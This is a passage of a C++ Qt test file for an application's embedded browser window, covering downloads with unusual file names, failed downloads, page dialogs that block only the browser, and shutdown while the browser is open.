    // Once the user reloads, it asks again; saved where the user said, under a name with "%1" in it.
    QTest::mouseClick(browser->findChild<QPushButton*>(QStringLiteral("cmdRefresh")), Qt::LeftButton);
    QVERIFY(waitLoaded(browser));
    const QString target = saved.filePath(QStringLiteral("kept%1.bin"));
    p.fake.files.answers.push_back(target);
    QStringList progress; // the panel as each piece arrives
    connect(viewOf(browser)->page()->profile(), &QWebEngineProfile::downloadRequested, this,
            [&](QWebEngineDownloadRequest* request) {
                connect(request, &QWebEngineDownloadRequest::receivedBytesChanged, this,
                        [&] { progress.append(panel1->text()); });
            });
    viewOf(browser)->page()->download(QUrl::fromLocalFile(source), QStringLiteral("report.bin"));
    QTRY_COMPARE_WITH_TIMEOUT(panel1->text(),
                              QStringLiteral("Downloaded kept%1.bin to ") + QDir::toNativeSeparators(target), 20000);
    QCOMPARE(p.fake.files.proposed.size(), 2);
    QVERIFY(!progress.isEmpty());
    for (const QString& shown : progress)
        QVERIFY2(shown.startsWith(QLatin1String("Downloading kept%1.bin")) && !shown.contains(QLatin1String("%2")),
                 qPrintable(shown));
    QFile kept(target);
    QVERIFY(kept.open(QIODevice::ReadOnly));
    QCOMPARE(kept.readAll(), QByteArray(100'000, 'k'));
    // A download that fails says so.
    p.fake.files.answers.push_back(saved.filePath(QStringLiteral("never.bin")));
    viewOf(browser)->page()->download(QUrl::fromLocalFile(p.folder() + QStringLiteral("/gone.bin")),
                                      QStringLiteral("gone.bin"));
    QTRY_VERIFY_WITH_TIMEOUT(panel1->text().startsWith(QLatin1String("Download of never.bin failed: ")), 20000);
}

void TestBrowser::pageDialogsBlockOnlyTheBrowser_data()
{
    QTest::addColumn<QString>("script");
    QTest::newRow("alert") << "setTimeout(function () { alert('hello <b>there</b>'); }, 0);";
    QTest::newRow("confirm") << "setTimeout(function () { document.title = confirm('sure?') ? 'yes' : 'no'; }, 0);";
    QTest::newRow("prompt") << "setTimeout(function () { prompt('name?', 'x'); }, 0);";
    QTest::newRow("alerts in a loop") << "setTimeout(function () { for (;;) alert('again'); }, 0);";
}

void TestBrowser::pageDialogsBlockOnlyTheBrowser()
{
    QFETCH(QString, script);
    TestProgram p;
    startWithPages(p);
    QPointer<BrowserWindow> browser = openBrowser(p);
    QVERIFY(waitLoaded(browser));
    // While the page waits in its dialog, this runs from the dialog's own wait.
    bool sawDialog = false;
    QWidget* modal = nullptr;
    QString status;
    QTimer poll;
    poll.setInterval(20);
    connect(&poll, &QTimer::timeout, this, [&] {
        if (sawDialog || !browser || !dialogOf(browser) || !dialogOf(browser)->isVisible())
            return;
        sawDialog = true;
        modal = QApplication::activeModalWidget();
        QTest::mouseClick(p.mainWindow()->findChild<QPushButton*>(QStringLiteral("cmdCopy_0")), Qt::LeftButton);
        status = p.status();
        QVERIFY(!browser->findChild<QLineEdit*>(QStringLiteral("txtAddress"))->isEnabled());
        browser->close();
    });
    poll.start();
    viewOf(browser)->page()->runJavaScript(script);
    QTRY_VERIFY_WITH_TIMEOUT(browser.isNull(), 20000);
    QVERIFY(sawDialog);
    QCOMPARE(modal, nullptr);
    QCOMPARE(status, QStringLiteral("You must first select a row to copy from."));
    QCOMPARE(p.fake.programEnd.ends, 0);
    QVERIFY(p.mainWindow()->isVisible());
}

void TestBrowser::shutdownWithBrowserOpen()
{
    TestProgram p;
    startWithPages(p);
    BrowserWindow* browser = openBrowser(p);
    p.mainWindow()->close();
    QVERIFY(p.ctx->mainWindowClosed);
    QCOMPARE(p.fake.programEnd.ends, 0);
    QVERIFY(browser->isVisible());
    browser->close();
    QCOMPARE(p.fake.programEnd.ends, 1);

    // A browser that is loaded but not visible is closed by the main window, which ends the run.
    TestProgram q;
    startWithPages(q);
    BrowserWindow* hidden = openBrowser(q);
    hidden->hide();
    q.mainWindow()->close();
    QVERIFY(!q.ctx->mainWindowClosed);
    QCOMPARE(q.fake.programEnd.ends, 1);
    QVERIFY(!q.program->windows.browser);
}

int main(int argc, char* argv[])
{
    QCoreApplication::setAttribute(Qt::AA_ShareOpenGLContexts);
    QApplication app(argc, argv);
    TestBrowser test;
    return QTest::qExec(&test, argc, argv);
}

#include "test_browser.moc"
